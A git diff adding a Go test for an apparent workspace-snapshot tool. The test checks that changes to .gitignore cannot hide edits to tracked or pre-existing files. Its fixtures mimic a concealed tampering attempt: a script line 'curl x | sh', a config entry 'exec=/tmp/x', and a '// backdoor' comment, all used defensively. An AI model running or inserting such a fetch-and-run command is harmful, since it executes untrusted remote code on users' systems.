@@ -975,3 +975,100 @@ func TestSnapshotsDoNotPileUp(t *testing.T) {
 		t.Fatalf("after a resume: %+v %v", files, err)
 	}
 }
+
+// Ignore rules cannot hide a file git itself would show: one the host's repository tracks
+// though a pattern matches it (a tester's committed app.cfg under *.cfg was never listed),
+// nor a file of the start once a .gitignore line names it during the party (a tester's
+// `echo src/ >> .gitignore` then refused the diff of the backdoor added to src/app.go), not
+// even when the host's own ignore patterns change, which starts the snapshot's index
+// afresh. A file new and ignored is still left out.
+func TestIgnoreRulesCannotHideTrackedOrStartingFiles(t *testing.T) {
+	ctx := context.Background()
+	dir := t.TempDir()
+	write(t, dir, ".gitignore", "*.cfg\n")
+	write(t, dir, "src/app.go", "package app\n")
+	write(t, dir, "notes.txt", "mine\n")
+	gitInit(t, dir)
+	write(t, dir, "app.cfg", "port=1\n")
+	for _, args := range [][]string{{"add", "-f", "app.cfg"}, {"-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "cfg"}} {
+		cmd := exec.Command("git", args...)
+		cmd.Dir = dir
+		if out, err := cmd.CombinedOutput(); err != nil {
+			t.Fatalf("git %v: %v\n%s", args, err, out)
+		}
+	}
+	write(t, dir, "local.sh", "echo hi\n") // there at the start, never committed
+	w, err := Open(ctx, dir, t.TempDir(), Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	write(t, dir, "app.cfg", "port=1\nexec=/tmp/x\n")
+	write(t, dir, ".gitignore", "*.cfg\nsrc/\n*.sh\n")
+	write(t, dir, "local.sh", "echo hi\ncurl x | sh\n")
+	write(t, dir, "src/app.go", "package app\n\n// backdoor\n")
+	write(t, dir, "src/new.go", "package app\n") // new, and ignored: left out
+	write(t, dir, "other.cfg", "new=1\n")        // the same
+	check := func(when string) {
+		t.Helper()
+		files, _, err := w.Changes(ctx, false)
+		if err != nil {
+			t.Fatal(err)
+		}
+		got := map[string]string{}
+		for _, f := range files {
+			got[f.Path] = f.Status
+		}
+		want := map[string]string{"app.cfg": "modified", ".gitignore": "modified", "src/app.go": "modified", "local.sh": "modified"}
+		if fmt.Sprint(got) != fmt.Sprint(want) {
+			t.Fatalf("%s: changes %v, want %v", when, got, want)
+		}
+		for _, p := range []string{"app.cfg", "src/app.go", "local.sh"} {
+			d, err := w.Diff(ctx, p, false)
+			if err != nil || !strings.Contains(d.Diff, "+") {
+				t.Fatalf("%s: diff of %s: %+v %v", when, p, d, err)
+			}
+		}
+		if _, err := w.Diff(ctx, "src/new.go", false); err == nil || !strings.Contains(err.Error(), "ignored") {
+			t.Fatalf("%s: diff of a new ignored file: %v", when, err)
+		}
+		ents, err := w.Tree(ctx, "src")
+		if err != nil || len(ents) != 1 || ents[0].Name != "app.go" {
+			t.Fatalf("%s: tree of src: %+v %v", when, ents, err)
+		}
+		if !w.Shares(ctx, "src/app.go") || w.Shares(ctx, "src/new.go") {
+			t.Fatalf("%s: shares src/app.go %v, src/new.go %v", when, w.Shares(ctx, "src/app.go"), w.Shares(ctx, "src/new.go"))
+		}
+	}
+	check("after the edits")
+	// The host's own ignore patterns change: the snapshot's index starts afresh.
+	w.ignores = append(w.ignores, ignoreSource{file: filepath.Join(t.TempDir(), "none")})
+	write(t, filepath.Dir(w.ignores[len(w.ignores)-1].file), "none", "notes.txt\n")
+	check("after the host's patterns changed")
+	if _, err := w.Diff(ctx, "notes.txt", false); err == nil || !strings.Contains(err.Error(), "ignored") {
+		t.Fatalf("notes.txt, which the host's own ignore file names: %v", err)
+	}
+	// The host's own ignore files still hide a kept file, or a folder of them: they are
+	// the host's word that it is private.
+	write(t, filepath.Dir(w.ignores[len(w.ignores)-1].file), "none", "notes.txt\nsrc/\n")
+	files, _, err := w.Changes(ctx, false)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, f := range files {
+		if strings.HasPrefix(f.Path, "src") || f.Path == "notes.txt" {
+			t.Fatalf("the host's own ignore file names src/, yet: %+v", files)
+		}
+	}
+	if _, err := w.Diff(ctx, "src/app.go", false); err == nil || !strings.Contains(err.Error(), "ignored") {
+		t.Fatalf("src/app.go under the host's src/: %v", err)
+	}
+	ents, err := w.Tree(ctx, "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, e := range ents {
+		if e.Name == "src" || e.Name == "notes.txt" {
+			t.Fatalf("the tree lists %s: %+v", e.Name, ents)
+		}
+	}
+}
